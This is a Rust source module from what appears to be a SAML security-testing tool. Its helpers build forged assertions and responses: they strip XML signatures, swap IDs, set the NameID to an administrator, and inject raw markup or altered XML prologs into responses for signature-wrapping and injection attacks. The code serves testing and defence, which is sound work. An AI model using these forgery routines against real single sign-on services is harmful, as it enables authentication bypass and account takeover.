//! What several attacks do.

use crate::attack::Scene;
use crate::markup::Element;

/// The identity that attackers make up.
pub(super) const EVIL_ID: &str = "_evil";

/// The assertion as the attacker would have it: another user, another ID, no signature.
pub(super) fn forged(assertion: &Element, id: &str) -> Option<Element> {
    let mut forged = assertion.clone();
    forged.take("Signature");
    forged.set("ID", id);
    forged.find_mut("NameID")?.set_text(crate::ADMIN);
    if let Some(statement) = forged.find_mut("AuthnStatement")
        && statement.attribute("SessionIndex").is_some()
    {
        statement.set("SessionIndex", id);
    }
    Some(forged)
}

/// The forged copy of the assertion of a response.
pub(super) fn evil(response: &Element) -> Option<Element> {
    forged(response.child("Assertion")?, EVIL_ID)
}

/// Puts something where `local` is, and gives that back.
pub(super) fn swap(parent: &mut Element, local: &str, other: Element) -> Option<Element> {
    parent.replace(local, other)
}

/// The response as the attacker would have it, with other IDs and no signature.
pub(super) fn evil_response(response: &Element) -> Option<Element> {
    let mut evil = response.clone();
    evil.take("Signature");
    evil.set("ID", "_evil-response");
    let forged = forged(response.child("Assertion")?, EVIL_ID)?;
    evil.replace("Assertion", forged)?;
    Some(evil)
}

/// The innermost signed element with its signature: the assertion if it is signed, the response otherwise.
pub(super) fn signed_mut(response: &mut Element) -> Option<&mut Element> {
    let assertion_signed = response
        .child("Assertion")
        .is_some_and(|assertion| assertion.child("Signature").is_some());
    if assertion_signed {
        response.child_mut("Assertion")
    } else if response.child("Signature").is_some() {
        Some(response)
    } else {
        None
    }
}

/// The signature of the innermost signed element.
pub(super) fn signature_mut(response: &mut Element) -> Option<&mut Element> {
    signed_mut(response)?.child_mut("Signature")
}

/// An element of that signature.
pub(super) fn in_signature<'e>(response: &'e mut Element, local: &str) -> Option<&'e mut Element> {
    signature_mut(response)?.find_mut(local)
}

/// `samlp:Extensions` around something, at its place in the schema.
pub(super) fn extensions(response: &mut Element, scene: &Scene, content: Element) -> Option<()> {
    let extensions = scene.samlp("Extensions").containing(content);
    response.insert_before("Status", extensions)
}

/// Makes markup the content of `NameID`.
pub(super) fn name(response: &mut Element, markup: &str) -> Option<()> {
    raw(response, "NameID", markup)
}

pub(super) fn raw(response: &mut Element, local: &str, markup: &str) -> Option<()> {
    response.find_mut(local)?.set_raw(markup);
    Some(())
}

pub(super) fn before_status(response: &mut Element, markup: &str) -> Option<()> {
    response.insert_before("Status", crate::markup::Node::Raw(markup.to_owned()))
}

/// The text without its XML declaration, if it has one.
pub(super) fn body(text: &str) -> &str {
    if text.starts_with("<?xml ") {
        text.split_once("?>").map_or(text, |(_, body)| body)
    } else {
        text
    }
}

pub(super) fn prolog(text: &str, prolog: &str) -> Option<Vec<u8>> {
    Some([prolog, body(text)].concat().into_bytes())
}

pub(super) fn replace(text: &[u8], from: &str, to: &str) -> Option<Vec<u8>> {
    let text = core::str::from_utf8(text).ok()?;
    text.contains(from)
        .then(|| text.replacen(from, to, 1).into_bytes())
}
